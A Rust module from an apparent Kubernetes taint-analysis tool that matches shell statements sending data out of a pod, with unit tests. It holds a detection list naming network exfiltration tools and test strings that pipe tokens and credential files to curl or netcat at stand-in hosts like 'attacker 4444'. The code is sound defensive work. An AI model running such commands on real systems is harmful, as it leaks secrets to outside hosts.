//! External sink patterns: which statements move data out of the pod.
//!
//! The set is data, not code. `SinkMatcher::builtin()` covers the common
//! shell sinks; `.kubetaint.toml` can disable entries by name or add new ones.

use once_cell::sync::Lazy;
use regex::Regex;
use serde::{Deserialize, Serialize};

use crate::error::{Result, TaintError};
use crate::parser::shell::split_substitutions;

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum SinkKind {
    Stdout,
    File,
    Log,
    Network,
}

impl SinkKind {
    pub fn from_str_lenient(s: &str) -> Option<Self> {
        match s.to_lowercase().as_str() {
            "stdout" | "echo" => Some(Self::Stdout),
            "file" => Some(Self::File),
            "log" | "logging" => Some(Self::Log),
            "network" | "net" => Some(Self::Network),
            _ => None,
        }
    }
}

impl std::fmt::Display for SinkKind {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Self::Stdout => write!(f, "stdout"),
            Self::File => write!(f, "file"),
            Self::Log => write!(f, "log"),
            Self::Network => write!(f, "network"),
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct SinkPattern {
    pub name: String,
    pub kind: SinkKind,
    pub regex: String,
}

impl SinkPattern {
    pub fn new(name: &str, kind: SinkKind, regex: &str) -> Self {
        Self {
            name: name.to_string(),
            kind,
            regex: regex.to_string(),
        }
    }
}

/// Built-in sink patterns, in match priority order within a kind.
pub fn builtin_patterns() -> Vec<SinkPattern> {
    use SinkKind::*;
    vec![
        SinkPattern::new("echo", Stdout, r"\becho\b"),
        SinkPattern::new("printf", Stdout, r"\bprintf\b"),
        SinkPattern::new("print", Stdout, r"\bprint\b"),
        SinkPattern::new("cat", Stdout, r"\bcat\b"),
        SinkPattern::new("env-dump", Stdout, r"^\s*(env|printenv|export\s+-p|set)\s*$"),
        SinkPattern::new("tee", File, r"\btee\b"),
        SinkPattern::new("log-file-redirect", File, r">>?\s*/(var/log|tmp)/"),
        SinkPattern::new("logger", Log, r"\blogger\b"),
        SinkPattern::new("systemd-cat", Log, r"\bsystemd-cat\b"),
        SinkPattern::new("curl", Network, r"\bcurl\b"),
        SinkPattern::new("wget", Network, r"\bwget\b"),
        SinkPattern::new("netcat", Network, r"\b(nc|ncat|netcat|socat)\b"),
        SinkPattern::new("remote-copy", Network, r"\b(scp|sftp|rsync)\b"),
        SinkPattern::new("dev-tcp", Network, r"/dev/(tcp|udp)/"),
        SinkPattern::new("mail", Network, r"\b(sendmail|mailx?)\b"),
    ]
}

static BUILTIN: Lazy<SinkMatcher> = Lazy::new(|| {
    SinkMatcher::new(builtin_patterns()).expect("built-in sink patterns are valid regexes")
});

/// Compiled, ordered sink pattern set.
#[derive(Debug, Clone)]
pub struct SinkMatcher {
    patterns: Vec<(SinkPattern, Regex)>,
}

impl SinkMatcher {
    pub fn new(patterns: Vec<SinkPattern>) -> Result<Self> {
        let compiled = patterns
            .into_iter()
            .map(|p| match Regex::new(&p.regex) {
                Ok(re) => Ok((p, re)),
                Err(e) => Err(TaintError::SinkPattern {
                    name: p.name.clone(),
                    message: e.to_string(),
                }),
            })
            .collect::<Result<Vec<_>>>()?;
        Ok(Self { patterns: compiled })
    }

    pub fn builtin() -> Self {
        BUILTIN.clone()
    }

    /// Strongest matching pattern for a statement: network beats log beats
    /// file beats stdout; ties go to the earlier pattern.
    pub fn find(&self, statement: &str) -> Option<&SinkPattern> {
        let mut best: Option<&SinkPattern> = None;
        for (pattern, re) in &self.patterns {
            if !re.is_match(statement) {
                continue;
            }
            if best.map_or(true, |b| pattern.kind > b.kind) {
                best = Some(pattern);
            }
        }
        best
    }

    /// Sink of an assignment statement. Standard output of a command
    /// substitution is captured into the variable, so stdout sinks only
    /// count outside `$(...)`; every other kind still counts inside it.
    pub fn find_in_assignment(&self, statement: &str) -> Option<&SinkPattern> {
        let (outer, inner) = split_substitutions(statement);
        let mut best = self.find(&outer);
        for body in &inner {
            let Some(hit) = self.find_where(body, |k| k != SinkKind::Stdout) else {
                continue;
            };
            if best.map_or(true, |b| hit.kind > b.kind) {
                best = Some(hit);
            }
        }
        best
    }

    fn find_where(&self, statement: &str, keep: impl Fn(SinkKind) -> bool) -> Option<&SinkPattern> {
        self.patterns
            .iter()
            .filter(|(pattern, re)| keep(pattern.kind) && re.is_match(statement))
            .map(|(pattern, _)| pattern)
            .fold(None, |best: Option<&SinkPattern>, p| match best {
                Some(b) if b.kind >= p.kind => Some(b),
                _ => Some(p),
            })
    }

    pub fn patterns(&self) -> impl Iterator<Item = &SinkPattern> {
        self.patterns.iter().map(|(p, _)| p)
    }

    pub fn len(&self) -> usize {
        self.patterns.len()
    }

    pub fn is_empty(&self) -> bool {
        self.patterns.is_empty()
    }
}

/// Host of the first URL in a statement, e.g. `curl https://hooks.example.com/x`.
pub fn network_destination(statement: &str) -> Option<String> {
    statement
        .split_whitespace()
        .map(|token| token.trim_matches(|c| c == '"' || c == '\''))
        .filter(|token| token.contains("://"))
        .find_map(|token| url::Url::parse(token).ok()?.host_str().map(str::to_string))
}

impl Default for SinkMatcher {
    fn default() -> Self {
        Self::builtin()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn builtin_matches_common_sinks() {
        let m = SinkMatcher::builtin();
        assert_eq!(m.find("echo $TOKEN").unwrap().name, "echo");
        assert_eq!(m.find("curl -d \"$TOKEN\" https://x").unwrap().kind, SinkKind::Network);
        assert_eq!(m.find("logger -t app \"$PASS\"").unwrap().kind, SinkKind::Log);
        assert!(m.find("export FOO=bar").is_none());
        assert!(m.find("mycurlwrapper run").is_none());
    }

    #[test]
    fn strongest_kind_wins_in_pipelines() {
        let m = SinkMatcher::builtin();
        let hit = m.find("echo \"$TOKEN\" | nc attacker 4444").unwrap();
        assert_eq!(hit.kind, SinkKind::Network);
        assert_eq!(hit.name, "netcat");
    }

    #[test]
    fn invalid_regex_is_a_config_error() {
        let err = SinkMatcher::new(vec![SinkPattern::new("bad", SinkKind::Log, "(")]).unwrap_err();
        assert!(matches!(err, TaintError::SinkPattern { ref name, .. } if name == "bad"));
    }

    #[test]
    fn destination_host_is_read_from_urls() {
        assert_eq!(
            network_destination("curl -s -d \"$T\" 'https://hooks.example.com/x?a=1'"),
            Some("hooks.example.com".to_string())
        );
        assert_eq!(network_destination("nc evil 4444"), None);
    }

    #[test]
    fn substitutions_in_assignments_capture_stdout() {
        let m = SinkMatcher::builtin();
        assert!(m
            .find_in_assignment("export TOKEN=$(cat /etc/creds/token)")
            .is_none());
        assert!(m.find_in_assignment("TOKEN=`cat /etc/creds/token`").is_none());
        let hit = m
            .find_in_assignment("R=$(cat /etc/creds/token | curl -d @- https://x)")
            .unwrap();
        assert_eq!(hit.name, "curl");
        let hit = m
            .find_in_assignment("A=$(cat /etc/creds/token); echo $A")
            .unwrap();
        assert_eq!(hit.name, "echo");
    }

    #[test]
    fn env_dump_only_matches_bare_command() {
        let m = SinkMatcher::builtin();
        assert_eq!(m.find("printenv").unwrap().name, "env-dump");
        assert!(m.find("env FOO=1 ./run").is_none());
    }
}
